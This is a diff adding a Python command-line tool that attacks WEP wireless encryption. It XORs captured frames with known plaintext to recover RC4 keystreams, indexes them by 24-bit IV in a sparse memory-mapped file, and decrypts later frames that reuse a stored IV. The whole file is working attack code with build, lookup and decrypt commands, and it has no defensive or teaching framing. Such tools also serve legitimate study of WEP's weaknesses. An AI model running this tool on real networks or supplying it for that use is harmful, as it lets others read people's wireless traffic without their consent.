@@ -0,0 +1,190 @@
+#!/usr/bin/env python3
+import argparse
+import os
+import struct
+from typing import Iterator, Optional
+import numpy as np
+from pcapstream import Frame, iter_frames
+
+# ---------------------------
+# IV-indexed keystream store
+# ---------------------------
+# Every frame whose plaintext is known gives away the RC4 keystream for its
+# IV (keystream = ciphertext XOR plaintext). The store keeps one slot per
+# 24-bit IV in a single memory-mapped file:
+#   [header | presence bitmap (2^24 bits) | table (2^24 x length bytes)]
+# The file is sparse, so only pages of recovered IVs take disk space, and a
+# lookup is one bit test plus one row read.
+
+IV_SLOTS = 1 << 24
+MAGIC = b'WKSI'
+VERSION = 1
+HEADER = struct.Struct('<4sB3xI') # magic, version, keystream length
+BITMAP_OFFSET = 4096              # page-aligned sections
+TABLE_OFFSET = BITMAP_OFFSET + IV_SLOTS // 8
+CHUNK = 1 << 16                   # frames XORed per NumPy batch while building
+
+def iv_index(iv: bytes) -> int:
+    return int.from_bytes(iv, 'big')
+
+class KeystreamStore:
+    """
+    Open (or with create=True, create) the keystream table at `path`.
+      - store[iv] / store.get(iv) : keystream bytes for a 3-byte IV (or its int index)
+      - iv in store               : whether that IV was recovered
+      - store.decrypt(iv, data)   : plaintext of a later frame reusing the IV
+      - store.add(ivs, keystreams): batched insert, used by build()
+    """
+
+    def __init__(self, path: str, length: int = 0, create: bool = False):
+        self.path: str = path
+        if create:
+            with open(path, 'wb') as f:
+                f.write(HEADER.pack(MAGIC, VERSION, length))
+                f.truncate(TABLE_OFFSET + IV_SLOTS * length)
+            mode: str = 'r+'
+        else:
+            with open(path, 'rb') as f:
+                magic, version, length = HEADER.unpack(f.read(HEADER.size))
+            if magic != MAGIC or version != VERSION:
+                raise ValueError(f"{path} is not a keystream store")
+            mode = 'r'
+        self.length: int = length
+        self.bitmap = np.memmap(path, dtype=np.uint8, mode=mode, offset=BITMAP_OFFSET, shape=(IV_SLOTS // 8,))
+        self.table = np.memmap(path, dtype=np.uint8, mode=mode, offset=TABLE_OFFSET, shape=(IV_SLOTS, length))
+
+    # --- lookups ---
+    def __contains__(self, iv: bytes | int) -> bool:
+        index: int = iv if isinstance(iv, int) else iv_index(iv)
+        return bool(self.bitmap[index >> 3] >> (index & 7) & 1)
+
+    def get(self, iv: bytes | int) -> Optional[bytes]:
+        index: int = iv if isinstance(iv, int) else iv_index(iv)
+        if not self.bitmap[index >> 3] >> (index & 7) & 1:
+            return None
+        return self.table[index].tobytes()
+
+    def __getitem__(self, iv: bytes | int) -> bytes:
+        keystream: Optional[bytes] = self.get(iv)
+        if keystream is None:
+            raise KeyError(iv)
+        return keystream
+
+    def decrypt(self, iv: bytes, data: bytes) -> Optional[bytes]:
+        """
+        Plaintext of `data` (up to the stored keystream length), or None if
+        the IV has not been recovered.
+        """
+        keystream: Optional[bytes] = self.get(iv)
+        if keystream is None:
+            return None
+        return bytes(c ^ k for c, k in zip(data, keystream))
+
+    def __len__(self) -> int:
+        return int(np.unpackbits(self.bitmap).sum())
+
+    def ivs(self) -> Iterator[int]:
+        """
+        Indexes of all recovered IVs, in increasing order.
+        """
+        for byte in np.flatnonzero(self.bitmap):
+            bits: int = int(self.bitmap[byte])
+            for bit in range(8):
+                if bits >> bit & 1:
+                    yield int(byte) << 3 | bit
+
+    # --- building ---
+    def add(self, ivs: np.ndarray, keystreams: np.ndarray) -> tuple[int, int]:
+        """
+        Store keystreams[i] for IV index ivs[i]. The first keystream seen for
+        an IV is kept; a different one later (a forged frame or the wrong
+        plaintext) is counted as a conflict. Returns (added, conflicts).
+        """
+        unique, first, inverse = np.unique(ivs, return_index=True, return_inverse=True)
+        present = (self.bitmap[unique >> 3] >> (unique & 7) & 1).astype(bool)
+        kept = keystreams[first] # per IV: the stored keystream, else its first occurrence in the batch
+        kept[present] = self.table[unique[present]]
+        conflicts: int = int(np.any(keystreams != kept[inverse.reshape(-1)], axis=1).sum())
+
+        new = unique[~present]
+        self.table[new] = kept[~present]
+        np.bitwise_or.at(self.bitmap, new >> 3, (1 << (new & 7)).astype(np.uint8))
+        return len(new), conflicts
+
+    def flush(self):
+        self.bitmap.flush()
+        self.table.flush()
+
+
+def _chunks(frames: Iterator[Frame], length: int) -> Iterator[tuple[np.ndarray, np.ndarray]]:
+    ivs: list[int] = []
+    data: list[bytes] = []
+    for frame in frames:
+        if len(frame.data) < length:
+            continue
+        ivs.append(iv_index(frame.iv))
+        data.append(frame.data[:length])
+        if len(ivs) == CHUNK:
+            yield np.array(ivs, dtype=np.int64), np.frombuffer(b''.join(data), dtype=np.uint8).reshape(-1, length)
+            ivs, data = [], []
+    if ivs:
+        yield np.array(ivs, dtype=np.int64), np.frombuffer(b''.join(data), dtype=np.uint8).reshape(-1, length)
+
+def keystreams(pcap_path: str, plaintext: bytes, src: Optional[str] = None) -> Iterator[tuple[np.ndarray, np.ndarray]]:
+    """
+    Stream (IV indexes, keystreams) of the capture's frames (from `src`) in
+    chunks of up to CHUNK frames: int64 [n] and uint8 [n, len(plaintext)].
+    """
+    known = np.frombuffer(plaintext, dtype=np.uint8)
+    for ivs, ciphertexts in _chunks(iter_frames(pcap_path, src=src), len(plaintext)):
+        yield ivs, ciphertexts ^ known
+
+def build(store_path: str, pcap_path: str, plaintext: bytes, src: Optional[str] = None) -> dict[str, int]:
+    """
+    Recover the keystream of every frame (from `src`) in one streaming pass
+    over the capture and index it by IV; returns counts for the report.
+    """
+    store = KeystreamStore(store_path, len(plaintext), create=True)
+    frames: int = 0
+    added: int = 0
+    conflicts: int = 0
+    for ivs, streams in keystreams(pcap_path, plaintext, src):
+        frames += len(ivs)
+        new, bad = store.add(ivs, streams)
+        added += new
+        conflicts += bad
+    store.flush()
+    return {'frames': frames, 'ivs': added, 'conflicts': conflicts}
+
+
+if __name__ == '__main__':
+    parser = argparse.ArgumentParser(description="IV-indexed keystream store for WEP captures")
+    sub = parser.add_subparsers(dest='command', required=True)
+    p = sub.add_parser('build', help='recover and index every keystream of a capture')
+    p.add_argument('pcap')
+    p.add_argument('store')
+    p.add_argument('--plain', default='plain.txt', help='file holding the known plaintext')
+    p.add_argument('--src', default=None, help='only frames from this MAC, e.g. de:ad:be:ef:00:01')
+    p = sub.add_parser('lookup', help='print the keystream of one IV')
+    p.add_argument('store')
+    p.add_argument('iv', help='IV in hex, e.g. 8e44b2')
+    p = sub.add_parser('decrypt', help='decrypt every frame of a capture whose IV is in the store')
+    p.add_argument('store')
+    p.add_argument('pcap')
+    p.add_argument('--src', default=None)
+    args = parser.parse_args()
+
+    if args.command == 'build':
+        with open(args.plain, 'rb') as f:
+            counts: dict[str, int] = build(args.store, args.pcap, f.read(), args.src)
+        print(f"{counts['frames']} frames -> {counts['ivs']} IVs, {counts['conflicts']} conflicting frames; "
+              f"{os.path.getsize(args.store) / 1e6:.0f} MB sparse file at {args.store}")
+    elif args.command == 'lookup':
+        keystream: Optional[bytes] = KeystreamStore(args.store).get(bytes.fromhex(args.iv))
+        print(keystream.hex() if keystream is not None else 'not recovered')
+    else:
+        store = KeystreamStore(args.store)
+        for frame in iter_frames(args.pcap, src=args.src):
+            plain: Optional[bytes] = store.decrypt(frame.iv, frame.data)
+            if plain is not None:
+                print(frame.index, frame.iv.hex(), plain)